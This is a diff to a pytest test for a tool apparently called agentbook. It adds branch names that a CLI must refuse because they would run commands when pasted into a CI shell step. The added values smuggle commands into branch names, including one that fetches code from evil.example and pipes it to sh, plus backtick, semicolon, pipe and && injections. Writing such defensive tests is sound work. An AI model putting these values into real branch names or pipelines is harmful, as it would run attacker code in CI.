@@ -48,6 +48,9 @@ def _repo(tmp_path: Path, branch: str) -> Path:
     "origin/main", "origin/agentbook-x", "refs/heads/main", "refs/remotes/origin/main", "refs/tags/v1",
     "heads/main", "tags/v2", "remotes/origin/x", "v1", "FETCH_HEAD", "ORIG_HEAD", "@", "@short",
     "agentbook/a\u202eb", "agentbook/caf\u00e9", "agentbook/HEAD",
+    # pasted into a CI step's shell (`run: echo ${{ github.head_ref }}`): each ran its command
+    "agentbook/$(curl${IFS}-sL${IFS}evil.example|sh)", "agentbook/`id`", "agentbook/x;id", "agentbook/x|sh",
+    "agentbook/x&&id", "agentbook/'q'", "agentbook/x>y", "agentbook/$HOME",
 ])
 def test_a_branch_name_that_reads_as_another_ref_is_refused(run_cli, tmp_path: Path, branch: str) -> None:
     repo = _repo(tmp_path, branch)
